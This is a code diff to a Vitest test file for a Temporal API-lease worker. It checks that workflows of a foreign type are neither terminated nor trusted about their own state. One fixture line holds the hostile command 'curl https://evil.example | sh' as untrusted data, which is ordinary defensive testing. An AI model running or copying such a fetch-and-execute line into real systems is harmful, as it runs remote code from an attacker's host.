@@ -6,7 +6,9 @@ import { describe, expect, it } from 'vitest';
 import { retryUntilClosed } from '../temporal/grpc-retries.ts';
 import { Outages } from '../activities/calls/outages.ts';
 import { apiLeaseState } from '../worker/api-lease/lease-state.ts';
-import { ensureLeases } from '../worker/api-lease/lease-workflows.ts';
+import { encodeMapToPayloads } from '@temporalio/common/lib/internal-non-workflow/index.js';
+import { writeDetails, writeMemo } from '../worker/api-lease/lease-service.ts';
+import { agreeOnShards, ensureLeases } from '../worker/api-lease/lease-workflows.ts';
 import { standByForApiLease } from '../worker/api-lease/stand-by.ts';
 
 describe('standing by without a Temporal server', () => {
@@ -33,13 +35,36 @@ describe('standing by without a Temporal server', () => {
   });
 });
 
-/** Of a server on which a workflow of that type runs under the id. */
-function serverWhere(type: string): Client {
-  const found = { workflowExecutionInfo: { status: 1, type: { name: type }, execution: { runId: 'r' } } };
-  const describeWorkflowExecution = () => Promise.resolve({ ...found, pendingActivities: [] });
+const TROUBLES = [
+  {
+    scope: 'app',
+    reason: 'no log-in',
+    sinceMs: 1,
+    person: { profile: 'default', command: 'curl https://evil.example | sh' },
+  },
+];
+
+/** Of a server on which a workflow of that type runs under the id of each shard, and says of itself what a lease says. */
+function serverWhere(...types: string[]): Client {
+  const client = new Client();
+  const generation = { id: 'g', shards: types.length, mostShards: types.length, formerRuns: [] };
+  const describeWorkflowExecution = async ({ execution }: { execution: { workflowId: string } }) => {
+    const [, shard] = /^feishu-vc\/api-lease\/q(?:\/(\d+))?$/.exec(execution.workflowId) ?? [];
+    const memo = writeMemo({ generation, previousRuns: [] });
+    const fields = await encodeMapToPayloads(client.options.loadedDataConverter, memo);
+    const heartbeatDetails = await writeDetails(client, { v: 1, buckets: {}, troubles: TROUBLES });
+    const type = { name: types[Number(shard ?? 0)] };
+    return {
+      workflowExecutionInfo: { status: 1, type, execution: { runId: 'r' }, memo: { fields } },
+      pendingActivities: [{ activityId: '1', attempt: 1, state: 2, heartbeatDetails }],
+    };
+  };
   const part = {
-    options: { namespace: 'default', loadedDataConverter: new Client().options.loadedDataConverter },
-    workflowService: { describeWorkflowExecution },
+    options: { namespace: 'default', loadedDataConverter: client.options.loadedDataConverter },
+    workflowService: {
+      describeWorkflowExecution,
+      terminateWorkflowExecution: () => Promise.reject(new Error('it is not ours to end')),
+    },
     withDeadline: (_deadline: number, ask: () => unknown) => ask(),
   };
   return part as unknown as Client;
@@ -59,10 +84,19 @@ describe('a workflow of somebody else under the id of the lease', () => {
     });
   });
 
+  it('is not ended, whichever shard it is of, and what it says of itself is not passed on', async () => {
+    const o = { client: serverWhere('apiLease', 'payroll'), taskQueue: 'q', shards: 2 };
+    await expect(ensureLeases(o)).rejects.toThrow('a workflow of the type payroll');
+    expect(await apiLeaseState({ ...o, shard: 1 })).toMatchObject({ held: false, troubles: [] });
+    const first = { client: serverWhere('payroll', 'apiLease'), taskQueue: 'q', shards: 3, makesCalls: true };
+    await agreeOnShards(first);
+    await expect(ensureLeases(first)).rejects.toThrow('a workflow of the type payroll');
+  });
+
   it('is not what the lease itself is', async () => {
     const o = { client: serverWhere('apiLease'), taskQueue: 'q', shards: 1 };
     expect(await ensureLeases(o)).toMatchObject({ shards: 1 });
-    expect(await apiLeaseState({ ...o, shard: 0 })).toEqual({ held: false, troubles: [] });
+    expect(await apiLeaseState({ ...o, shard: 0 })).toMatchObject({ held: true });
   });
 });
 
